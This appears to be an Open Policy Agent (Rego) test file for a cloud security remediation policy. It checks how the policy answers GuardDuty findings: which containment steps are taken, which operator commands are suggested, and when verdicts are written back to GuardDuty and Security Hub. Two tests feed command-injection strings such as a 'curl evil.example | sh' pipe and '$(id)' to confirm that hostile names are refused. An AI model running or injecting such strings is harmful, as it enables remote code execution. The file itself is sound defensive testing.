package soar.remediate_test

import data.soar.remediate

doc(kind, id, verdict) := {
	"alert": {
		"id": "guardduty/1/us-east-1/f1", "type": "UnauthorizedAccess:EC2/TorClient", "severity": 8, "sample": false,
		"resource": {"kind": kind, "id": id, "tags": {}, "attributes": {"user_name": "alice"}},
	},
	"enrichments": [],
	"verdict": {"verdict": verdict, "severity": "high", "reasons": ["test"], "page": true},
	"context": {"phase": "remediate", "mode": "dry_run"},
}

types(d) := {a.type | some a in d.actions}

test_incident_on_instance_isolates_snapshots_tags_and_notifies if {
	d := remediate.decision with input as doc("Instance", "i-1", "incident")
	types(d) == {"ec2.isolate", "ec2.snapshot", "ec2.protect", "ec2.tag", "notify"}
	some a in d.actions
	a.type == "ec2.isolate"
	a.target == {"kind": "Instance", "id": "i-1"}
}

test_critical_incident_adds_stop_with_approval if {
	input_doc := object.union(doc("Instance", "i-1", "incident"), {"alert": {"severity": 9.5}})
	d := remediate.decision with input as input_doc
	some a in d.actions
	a.type == "ec2.stop"
	a.requires_approval == true
}

test_high_incident_does_not_stop if {
	d := remediate.decision with input as doc("Instance", "i-1", "incident")
	not "ec2.stop" in types(d)
}

test_incident_on_access_key_deactivates_it if {
	d := remediate.decision with input as doc("AccessKey", "AKIAEXAMPLE", "incident")
	types(d) == {"iam.deactivate_access_key", "notify"}
	some a in d.actions
	a.type == "iam.deactivate_access_key"
	a.params.user_name == "alice"
}

test_protected_tag_means_notify_only if {
	input_doc := object.union(doc("Instance", "i-1", "incident"), {"alert": {"resource": {"tags": {"soar:protected": "true"}}}})
	d := remediate.decision with input as input_doc
	types(d) == {"notify"}
	contains(d.actions[0].params.message, "protected")
}

test_protected_by_inventory_means_notify_only if {
	input_doc := object.union(doc("Instance", "i-1", "incident"), {"enrichments": [{"provider": "inventory", "status": "found", "data": {"protected": true}}]})
	d := remediate.decision with input as input_doc
	types(d) == {"notify"}
}

test_sample_findings_get_nothing if {
	input_doc := object.union(doc("Instance", "i-1", "incident"), {"alert": {"sample": true}})
	d := remediate.decision with input as input_doc
	count(d.actions) == 0
}

test_undetermined_only_notifies if {
	d := remediate.decision with input as doc("Instance", "i-1", "undetermined")
	types(d) == {"notify"}
}

test_false_positive_does_nothing if {
	d := remediate.decision with input as doc("Instance", "i-1", "false_positive")
	count(d.actions) == 0
}

test_incident_without_resource_id_only_notifies if {
	d := remediate.decision with input as doc("Instance", "", "incident")
	types(d) == {"notify"}
}

test_snapshot_can_be_switched_off if {
	d := remediate.decision with input as doc("Instance", "i-1", "incident")
		with data.soar.config.remediate.snapshot_before_isolation as false
	not "ec2.snapshot" in types(d)
}

test_containment_comes_first_and_notify_last if {
	d := remediate.decision with input as doc("Instance", "i-1", "incident")
	d.actions[0].type == "ec2.isolate"
	d.actions[count(d.actions) - 1].type == "notify"
}

sequence_doc := object.union(doc("AttackSequence", "", "incident"), {"alert": {
	"type": "AttackSequence:EC2/CompromisedInstanceGroup",
	"related_resources": [
		{"kind": "Instance", "id": "i-a", "tags": {}, "attributes": {}},
		{"kind": "Instance", "id": "i-b", "tags": {}, "attributes": {}},
		{"kind": "AccessKey", "id": "ASIASESSION", "tags": {}, "attributes": {"credential_type": "session"}},
	],
}})

test_an_attack_sequence_contains_every_instance_it_names if {
	d := remediate.decision with input as sequence_doc
	isolated := {a.target.id | some a in d.actions; a.type == "ec2.isolate"}
	isolated == {"i-a", "i-b"}
	snapshots := {a.target.id | some a in d.actions; a.type == "ec2.snapshot"}
	snapshots == {"i-a", "i-b"}
	not "iam.deactivate_access_key" in types(d)
}

test_a_finding_about_something_else_leaves_the_instance_behind_it_alone if {
	input_doc := object.union(doc("AccessKey", "AKIAEXAMPLE", "incident"), {"alert": {
		"related_resources": [{"kind": "Instance", "id": "i-behind", "tags": {}, "attributes": {}}],
	}})
	d := remediate.decision with input as input_doc
	not "ec2.isolate" in types(d)
}

test_a_session_key_is_not_deactivated if {
	d := remediate.decision with input as doc("AccessKey", "ASIAEXAMPLESESSION", "incident")
	not "iam.deactivate_access_key" in types(d)
	"notify" in types(d)
}

test_root_keys_are_not_deactivated_and_the_message_says_what_to_do if {
	root := object.union(doc("AccessKey", "AKIAROOTKEY", "incident"), {"alert": {"resource": {"attributes": {"user_type": "Root"}}}})
	d := remediate.decision with input as root
	types(d) == {"notify"}
	some a in d.actions
	contains(a.params.message, "root credentials used")
}

test_instance_credentials_used_elsewhere_detach_the_profile_not_the_key if {
	leaked := object.union(doc("AccessKey", "ASIAEXAMPLESESSION", "incident"), {"alert": {
		"type": "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
		"resource": {"attributes": {"user_type": "AssumedRole"}},
		"related_resources": [{"kind": "Instance", "id": "i-behind", "tags": {}, "attributes": {}}],
	}})
	d := remediate.decision with input as leaked
	types(d) == {"iam.revoke_role_sessions", "ec2.detach_instance_profile", "notify"}
	some a in d.actions
	a.type == "ec2.detach_instance_profile"
	a.target == {"kind": "Instance", "id": "i-behind"}
	some r in d.actions
	r.type == "iam.revoke_role_sessions"
	r.target == {"kind": "AccessKey", "id": "ASIAEXAMPLESESSION"}
	r.params.role_name == "alice"
}

test_an_attack_sequence_revokes_each_actor_sessions_role if {
	sequence := object.union(doc("AttackSequence", "", "incident"), {"alert": {
		"type": "AttackSequence:IAM/CompromisedCredentials",
		"related_resources": [
			{"kind": "AccessKey", "id": "ASIAACTOR1", "tags": {}, "attributes": {"session_issuer": "arn:aws:iam::111122223333:role/ops/deployer"}},
			{"kind": "AccessKey", "id": "ASIANOROLE", "tags": {}, "attributes": {"session_issuer": "arn:aws:iam::111122223333:user/bob"}},
		],
	}})
	d := remediate.decision with input as sequence
	revoked := {[a.target.id, a.params.role_name] | some a in d.actions; a.type == "iam.revoke_role_sessions"}
	revoked == {["ASIAACTOR1", "deployer"]}
}

s3_doc := object.union(doc("S3Bucket", "data-a", "incident"), {"alert": {
	"type": "Exfiltration:S3/MaliciousIPCaller",
	"related_resources": [
		{"kind": "S3Bucket", "id": "data-b", "tags": {}, "attributes": {}},
		{"kind": "AccessKey", "id": "AKIAUSERKEY", "tags": {}, "attributes": {"user_name": "bob", "user_type": "IAMUser"}},
	],
}})

test_an_s3_incident_blocks_public_access_on_every_bucket_and_stops_the_caller_key if {
	d := remediate.decision with input as s3_doc
	{a.target.id | some a in d.actions; a.type == "s3.block_public_access"} == {"data-a", "data-b"}
	some k in d.actions
	k.type == "iam.deactivate_access_key"
	k.target.id == "AKIAUSERKEY"
	k.params.user_name == "bob"
}

test_a_lambda_incident_throttles_the_function if {
	d := remediate.decision with input as doc("Lambda", "payments", "incident")
	types(d) == {"lambda.throttle", "notify"}
	d.actions[0].type == "lambda.throttle"
}

ecs_doc := object.union(doc("Container", "prod-ecs", "incident"), {"alert": {
	"type": "CryptoCurrency:Runtime/BitcoinTool.B", "region": "eu-west-1",
	"related_resources": [
		{"kind": "ECSTask", "id": "arn:aws:ecs:eu-west-1:1:task/prod-ecs/abc", "tags": {}, "attributes": {"cluster": "prod-ecs"}},
		{"kind": "Instance", "id": "i-node", "tags": {}, "attributes": {}},
	],
}})

test_an_ecs_incident_contains_the_instance_and_stops_the_task_after_approval if {
	d := remediate.decision with input as ecs_doc
	some t in d.actions
	t.type == "ecs.stop_task"
	t.requires_approval == true
	some i in d.actions
	i.type == "ec2.isolate"
	i.target.id == "i-node"
	some n in d.actions
	n.type == "notify"
	contains(concat("\n", n.params.commands), "aws ecs describe-tasks --cluster prod-ecs --tasks arn:aws:ecs:eu-west-1:1:task/prod-ecs/abc --region eu-west-1")
}

eks_doc(user) := object.union(doc("EKSCluster", "prod-cluster", "incident"), {"alert": {
	"type": "Execution:Runtime/NewBinaryExecuted", "region": "eu-west-1",
	"resource": {"attributes": {"namespace": "default", "workload_name": "app", "workload_type": "pods", "kubernetes_user": user}},
}})

test_an_eks_incident_carries_the_kubectl_commands if {
	d := remediate.decision with input as eks_doc("system:serviceaccount:default:app")
	some n in d.actions
	n.type == "notify"
	contains(concat("\n", n.params.commands), "aws eks update-kubeconfig --name prod-cluster --region eu-west-1")
	contains(concat("\n", n.params.commands), "kubectl -n default label pod app soar-quarantine=true")
	contains(concat("\n", n.params.commands), "NetworkPolicy")
	contains(concat("\n", n.params.commands), "kubectl auth can-i --list --as system:serviceaccount:default:app")
}

test_a_hostile_name_is_never_pasted_into_a_command if {
	some hostile in ["x; curl evil.example | sh", "--server=https://evil.example", "a\nb", ""]
	d := remediate.decision with input as eks_doc(hostile)
	some n in d.actions
	n.type == "notify"
	not contains(concat("\n", n.params.commands), "evil")
	not contains(concat("\n", n.params.commands), "a\nb")
}

test_every_hostile_name_is_refused if {
	every hostile in ["x; curl evil.example | sh", "--server=https://evil.example", "-A", "a\nb", "$(id)", "a b"] {
		remediate.safe(hostile) == "<see the finding: unusual characters>"
	}
	remediate.safe("system:serviceaccount:default:app") == "system:serviceaccount:default:app"
}

test_rds_and_malware_findings_carry_their_commands if {
	rds := object.union(doc("RDSDBInstance", "orders-db", "incident"), {"alert": {"region": "eu-west-1",
		"related_resources": [{"kind": "RDSDBUser", "id": "app_user", "tags": {}, "attributes": {}}]}})
	d := remediate.decision with input as rds
	some n in d.actions
	n.type == "notify"
	contains(concat("\n", n.params.commands), "--db-instance-identifier orders-db --no-publicly-accessible")
	contains(concat("\n", n.params.commands), `ALTER ROLE "app_user" NOLOGIN`)
	object := object.union(doc("S3Object", "arn:aws:s3:::up/in/x.zip", "incident"), {"alert": {
		"resource": {"attributes": {"bucket_name": "up", "object_key": "in/x.zip"}}}})
	e := remediate.decision with input as object
	some m in e.actions
	m.type == "notify"
	contains(concat("\n", m.params.commands), "put-object-tagging --bucket up --key in/x.zip")
}

# --- The verdict written back -----------------------------------------------------------------------

gd_finding := {
	"id": "arn:aws:guardduty:us-east-1:111122223333:detector/d1/finding/f1",
	"product_arn": "arn:aws:securityhub:us-east-1::product/aws/guardduty",
	"via_security_hub": false, "detector_id": "d1",
}

with_finding(d, f) := object.union(d, {"alert": {"finding": f}})

write_backs(d) := {a.type | some a in d.actions; a.target.kind == "Finding"}

test_a_false_positive_is_archived_and_rated_in_guardduty_only if {
	d := remediate.decision with input as with_finding(doc("Instance", "i-1", "false_positive"), gd_finding)
	types(d) == {"guardduty.archive_finding", "guardduty.feedback"}
	every a in d.actions {
		a.target == {"kind": "Finding", "id": gd_finding.id}
	}
	some f in d.actions
	f.type == "guardduty.feedback"
	f.params == {"feedback": "NOT_USEFUL"}
}

test_with_the_guardduty_integration_security_hub_hears_of_a_native_finding_too if {
	d := remediate.decision with input as with_finding(doc("Instance", "i-1", "false_positive"), gd_finding)
		with data.soar.config.remediate.write_back.securityhub_has_guardduty as true
	some a in d.actions
	a.type == "securityhub.update_finding"
	a.params == {"workflow_status": "SUPPRESSED"}
}

test_an_incident_from_security_hub_is_marked_notified_after_everything_else if {
	f := object.union(gd_finding, {"via_security_hub": true})
	d := remediate.decision with input as with_finding(doc("Instance", "i-1", "incident"), f)
	last := d.actions[count(d.actions) - 1]
	last.type == "securityhub.update_finding"
	last.params.workflow_status == "NOTIFIED"
	write_backs(d) == {"securityhub.update_finding"}
}

test_another_products_false_positive_stays_in_sight if {
	f := {"id": "arn:aws:inspector2:us-east-1:111122223333:finding/abc", "product_arn": "arn:aws:securityhub:us-east-1::product/aws/inspector", "via_security_hub": true}
	d := remediate.decision with input as with_finding(doc("Instance", "i-1", "false_positive"), f)
	count(d.actions) == 0
	incident := remediate.decision with input as with_finding(doc("Instance", "i-1", "incident"), f)
	some a in incident.actions
	a.type == "securityhub.update_finding"
	a.params.workflow_status == "NOTIFIED"
}

test_a_false_positive_on_a_resource_tagged_by_anyone_is_never_hidden if {
	f := object.union(gd_finding, {"via_security_hub": true})
	tagged := object.union(with_finding(doc("Instance", "i-1", "false_positive"), f), {"alert": {"resource": {"tags": {"soar:authorized-testing": "true"}}}})
	d := remediate.decision with input as tagged
	count(write_backs(d)) == 0
}

test_undetermined_samples_protected_and_findingless_alerts_write_nothing_back if {
	f := object.union(gd_finding, {"via_security_hub": true})
	undetermined := remediate.decision with input as with_finding(doc("Instance", "i-1", "undetermined"), f)
	count(write_backs(undetermined)) == 0
	sample := remediate.decision with input as object.union(with_finding(doc("Instance", "i-1", "false_positive"), f), {"alert": {"sample": true}})
	count(sample.actions) == 0
	protected := remediate.decision with input as object.union(with_finding(doc("Instance", "i-1", "false_positive"), f), {"alert": {"resource": {"tags": {"soar:protected": "true"}}}})
	count(write_backs(protected)) == 0
	findingless := remediate.decision with input as doc("Instance", "i-1", "false_positive")
	count(findingless.actions) == 0
}

test_write_back_can_be_switched_off if {
	f := object.union(gd_finding, {"via_security_hub": true})
	d := remediate.decision with input as with_finding(doc("Instance", "i-1", "false_positive"), f)
		with data.soar.config.remediate.write_back as {}
	count(d.actions) == 0
}
